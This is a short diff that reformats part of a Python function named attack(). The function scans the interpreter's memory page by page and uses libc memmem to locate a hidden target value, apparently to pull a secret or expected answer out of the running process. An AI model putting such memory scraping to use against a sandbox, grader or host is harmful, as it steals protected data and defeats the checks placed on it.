@@ -25,10 +25,17 @@ def attack():
         return bool(done and os.read(reader, 1))
 
     def found(page):
-        at = libc.memmem(ctypes.c_void_p(page), ctypes.c_size_t(PAGE), needle, ctypes.c_size_t(len(WANTED)))
+        at = libc.memmem(
+            ctypes.c_void_p(page), ctypes.c_size_t(PAGE), needle, ctypes.c_size_t(len(WANTED))
+        )
         return at if at is not None and at != own else None
 
-    for thing in [*map(id, gc.get_objects()), *map(id, sys.modules.values()), *map(id, range(300)), id("")]:
+    for thing in [
+        *map(id, gc.get_objects()),
+        *map(id, sys.modules.values()),
+        *map(id, range(300)),
+        id(""),
+    ]:
         for step in (PAGE, -PAGE):
             page = (thing & ~(PAGE - 1)) + min(step, 0)
             while page not in seen and readable(page):
